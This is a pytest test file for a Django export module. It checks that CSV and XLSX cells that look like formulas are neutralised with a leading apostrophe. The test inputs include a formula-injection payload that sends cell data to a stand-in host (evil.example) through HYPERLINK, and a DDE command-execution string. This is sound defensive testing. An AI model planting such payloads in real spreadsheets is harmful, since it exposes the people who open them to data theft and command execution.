"""Every CSV and XLSX cell that a spreadsheet would run as a formula is written as inert text."""

import csv
import io

import pytest
from django.utils.translation import gettext_lazy
from openpyxl import load_workbook

from acompana.common.exports import neutralize_cell, table_response, to_csv, to_xlsx

ATTACK = '=HYPERLINK("http://evil.example/?x="&A2,"click")'


@pytest.mark.parametrize(
    "value",
    [ATTACK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=", "-"],
)
def test_text_that_starts_like_a_formula_gets_a_leading_apostrophe(value):
    assert neutralize_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Rosa Quispe", "", "a=b", " =1", "'=1", "#N/A", "1-2"])
def test_ordinary_text_is_left_as_it_is(value):
    assert neutralize_cell(value) == value


@pytest.mark.parametrize("value", [None, 3, -2, 2.5, -0.5])
def test_numbers_and_empty_cells_are_left_as_they_are(value):
    assert neutralize_cell(value) == value


def test_lazy_translations_become_text():
    assert neutralize_cell(gettext_lazy("Name")) == "Name"


def test_the_csv_neutralizes_header_and_cells_and_keeps_numbers():
    text = to_csv(["=Name", "Count"], [[ATTACK, -3], ["@x", 4]])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["'=Name", "Count"], ["'" + ATTACK, "-3"], ["'@x", "4"]]


def test_the_xlsx_writes_text_cells_as_strings_never_as_formulas():
    content = to_xlsx(["Answer", "Count"], [[ATTACK, -3], ["#N/A", 4], ["-1", None]], title="t")
    sheet = load_workbook(io.BytesIO(content)).active
    cells = [[(c.value, c.data_type) for c in row] for row in sheet.iter_rows(min_row=2)]
    assert cells[0] == [("'" + ATTACK, "s"), (-3, "n")]
    assert cells[1] == [("#N/A", "s"), (4, "n")]
    assert cells[2][0] == ("'-1", "s")
    assert all(c.data_type == "s" and c.font.b for c in sheet[1])


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_table_responses_in_both_formats_contain_no_formula(fmt):
    response = table_response(["A"], [[ATTACK]], filename="x", fmt=fmt)
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        assert rows[1] == ["'" + ATTACK]
    else:
        cell = load_workbook(io.BytesIO(response.content)).active["A2"]
        assert (cell.data_type, cell.value) == ("s", "'" + ATTACK)
